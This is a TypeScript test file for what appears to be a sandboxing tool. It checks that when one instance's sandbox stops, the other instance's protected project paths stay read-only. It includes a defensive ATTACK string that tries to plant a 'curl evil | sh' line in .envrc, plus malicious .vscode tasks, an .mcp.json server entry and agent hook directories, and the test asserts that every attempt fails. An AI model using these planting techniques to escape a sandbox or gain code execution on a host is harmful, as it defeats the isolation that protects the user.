/**
 * Two instances (two CLOISTER_HOMEs, or two users) run cloisters on one project. A placeholder
 * removed on the host lifts the mount on it inside every cloister that has one (the kernel detaches
 * the mounts of an unlinked entry), so the instance whose cloister ends first must leave the
 * placeholders the other's cloister sits on, and the last one out removes them (project-marks.ts,
 * placeholder-release.ts). Before, the first removed them: the other's `.vscode/` and `.envrc`
 * were writable from inside until its guardian noticed a file placeholder gone and killed it.
 */
import assert from "node:assert/strict";
import { existsSync, readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import { asUserSkipReason, createUserInstance } from "../helpers/as-user.js";
import { createInstance, waitUntil, type TestInstance } from "../helpers/cloister.js";

/** What a cloister whose protections were lifted could plant for the host: each line says which worked. */
const ATTACK = [
  "mkdir -p /work/.vscode 2>/dev/null && echo '{\"tasks\":[]}' > /work/.vscode/tasks.json 2>/dev/null && echo PLANTED-VSCODE",
  "echo 'curl evil | sh' > /work/.envrc 2>/dev/null && echo PLANTED-ENVRC",
  "echo '{\"mcpServers\":{\"x\":{\"command\":\"evil\"}}}' > /work/.mcp.json 2>/dev/null && echo PLANTED-MCP",
  "mkdir -p /work/.claude/hooks/x 2>/dev/null && echo PLANTED-HOOKS",
  "true",
].join("; ");

describe("escape: another instance's cloister of the same project ending", () => {
  let first: TestInstance;
  let second: TestInstance;

  before(() => {
    first = createInstance("sp1");
    second = createInstance("sp2");
  });
  after(async () => {
    await first.teardown();
    await second.teardown();
  });

  const running = async (t: TestInstance, name: string) => ((JSON.parse((await t.cli(["list", "--json"])).stdout) as { name: string }[]).some((c) => c.name === name));

  it("the same between two users: an ordinary user's cloister ending leaves root's protected, and its guardian removes the placeholders after root's ends", { skip: asUserSkipReason() }, async () => {
    const user = createUserInstance("spu");
    try {
      const hostBefore = readdirSync(user.project).sort();
      assert.equal((await user.cli(["start", "-d", "--name", "mine"])).code, 0);
      const started = await first.cli(["start", "-d", "--name", "roots", "--project", user.project]);
      assert.equal(started.code, 0, started.stderr);
      assert.equal((await user.cli(["stop", "mine"])).code, 0);
      const r = await first.cli(["exec", "roots", "--", "sh", "-c", ATTACK]);
      assert.equal(r.code, 0, r.stderr);
      assert.doesNotMatch(r.stdout, /PLANTED/);
      assert.ok(await running(first, "roots"), "root's cloister was stopped");
      assert.equal((await first.cli(["stop", "roots"])).code, 0);
      await waitUntil("the placeholders to be gone", () => readdirSync(user.project).sort().join(" ") === hostBefore.join(" "), 15_000);
    } finally {
      await first.cli(["stop", "roots"]);
      await user.teardown();
    }
  });

  it("leaves the other's protected paths read-only and its cloister running; the last one out removes the placeholders", async () => {
    const project = first.project;
    const hostBefore = readdirSync(project).sort();
    assert.equal((await first.cli(["start", "-d", "--name", "one"])).code, 0);
    assert.equal((await second.cli(["start", "-d", "--name", "two", "--project", project])).code, 0);
    const made = readdirSync(project).filter((name) => !hostBefore.includes(name));
    assert.ok(made.includes(".vscode") && made.includes(".envrc") && made.includes(".mcp.json"), `placeholders made: ${made.join(" ")}`);

    assert.equal((await first.cli(["stop", "one"])).code, 0);
    assert.deepEqual(readdirSync(project).filter((name) => !hostBefore.includes(name)), made, "the first instance removed placeholders the other's cloister sits on");
    const attack = async (when: string) => {
      const r = await second.cli(["exec", "two", "--", "sh", "-c", ATTACK]);
      assert.equal(r.code, 0, `${when}: ${r.stderr}`);
      assert.doesNotMatch(r.stdout, /PLANTED/, when);
      assert.ok(await running(second, "two"), `${when}: the other instance's cloister was stopped`);
    };
    await attack("right after the first cloister ended");
    // The first instance's guardian looks at what it left every 2 s: give it that chance to go wrong.
    await new Promise((resolve) => setTimeout(resolve, 2_500));
    await attack("after the first instance's guardian looked again");
    assert.equal(existsSync(join(project, ".vscode", "tasks.json")), false);
    assert.equal(readFileSync(join(project, ".mcp.json"), "utf8").includes("evil"), false);

    assert.equal((await second.cli(["stop", "two"])).code, 0);
    // The second instance found them made, so the first removes them, on its guardian's next look.
    await waitUntil("the placeholders to be gone", () => readdirSync(project).sort().join(" ") === hostBefore.join(" "), 15_000);
    assert.deepEqual(readdirSync(join(first.home, "state", "deferred-placeholders")), []);
    assert.doesNotMatch(readFileSync(join(project, ".git", "info", "exclude"), "utf8"), /cloister/);
    for (const leftover of ["commondir", "config.worktree", "worktrees"]) assert.equal(existsSync(join(project, ".git", leftover)), false, `.git/${leftover} left`);
  });
});
